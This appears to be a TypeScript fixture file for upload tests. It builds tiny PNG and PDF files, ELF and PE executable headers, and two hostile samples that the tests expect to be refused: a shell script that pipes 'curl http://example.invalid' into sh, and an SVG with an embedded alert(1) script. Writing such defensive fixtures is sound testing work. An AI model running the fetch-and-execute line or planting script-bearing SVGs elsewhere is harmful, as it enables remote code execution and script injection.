// Files for upload tests: real (if tiny) documents and images, and the
// executables and scripts that must be refused whatever they are called.
import fs from "node:fs";

/** A 4×4 PNG made with sharp. */
export const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAQAAAAECAIAAAAmkwkpAAAACXBIWXMAAAPoAAAD6AG1e1JrAAAAEElEQVQImWMwTpsJRwzEcQDrIxMhLoLCbgAAAABJRU5ErkJggg==",
  "base64",
);

/** A one-page PDF. */
export const PDF = Buffer.from(
  [
    "%PDF-1.4",
    "1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj",
    "2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj",
    "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj",
    "trailer << /Root 1 0 R >>",
    "%%EOF",
    "",
  ].join("\n"),
);

/** A Linux executable: the real /bin/true when present, else an ELF header. */
export const ELF = fs.existsSync("/bin/true")
  ? fs.readFileSync("/bin/true")
  : Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);

/** A Windows executable header (MZ stub pointing at a PE signature). */
export const PE = Buffer.concat([
  Buffer.from("MZ"),
  Buffer.alloc(58),
  Buffer.from([0x80, 0, 0, 0]),
  Buffer.alloc(64),
  Buffer.from("PE\0\0"),
  Buffer.alloc(200),
]);

export const SHELL_SCRIPT = Buffer.from("#!/bin/sh\ncurl http://example.invalid | sh\n");

export const SVG_WITH_SCRIPT = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');

/** A valid header followed by padding up to `bytes`: the type is detected, the size is what matters. */
export const padded = (head: Buffer, bytes: number) =>
  Buffer.concat([head, Buffer.alloc(Math.max(0, bytes - head.length), 0x20)]);
